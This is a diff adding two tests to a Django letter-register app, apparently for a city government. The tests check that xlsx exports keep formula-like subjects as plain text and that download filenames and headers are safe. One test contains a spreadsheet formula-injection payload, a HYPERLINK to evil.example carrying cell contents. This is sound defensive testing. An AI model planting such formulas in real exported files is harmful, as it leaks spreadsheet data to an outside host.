@@ -102,3 +102,31 @@ def test_it_rounds_the_figures_it_shows(client, city, week):
     client.force_login(city.users["sekda"])
     response = client.get(reverse("reports:dashboard"), WEEK)
     assert dict(response.context["table"])["Opened e-Surat before 09:00 (%)"][0] == "66.7"
+
+
+def test_it_exports_a_subject_that_looks_like_a_formula_as_text(client, city, week):
+    from esurat.letters.models import Letter
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    Letter.objects.filter(subject="L2").update(subject=formula)
+    client.force_login(city.users["agendaris.kominfo"])
+    query = {"book": "dispatch", "paper": "A4", **WEEK}
+    response = client.get(reverse("reports:book_export", args=["xlsx"]), query)
+    ws = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[2] for row in ws.iter_rows(min_row=3)]
+    cell = next(c for c in cells if c.value == formula)  # kept exactly as written
+    assert cell.data_type == "s" and cell.quotePrefix  # text, never evaluated
+
+
+def test_it_serves_a_book_as_a_private_download_under_a_safe_name(client, city, week):
+    agency = city.agencies["Diskominfo"]
+    agency.short_name = 'Dis"kominfo/Kota'
+    agency.save(update_fields=["short_name"])
+    client.force_login(city.users["agendaris.kominfo"])
+    query = {"book": "dispatch", "paper": "A4", **WEEK}
+    response = client.get(reverse("reports:book_export", args=["xlsx"]), query)
+    disposition = response["Content-Disposition"]
+    assert disposition.startswith("attachment; filename=\"dispatch-Dis'kominfo-Kota-2026-11-02")
+    assert disposition.count('"') == 2  # the quote cannot end the name early
+    assert response["Cache-Control"] == "private, no-store"
+    assert response["X-Content-Type-Options"] == "nosniff"
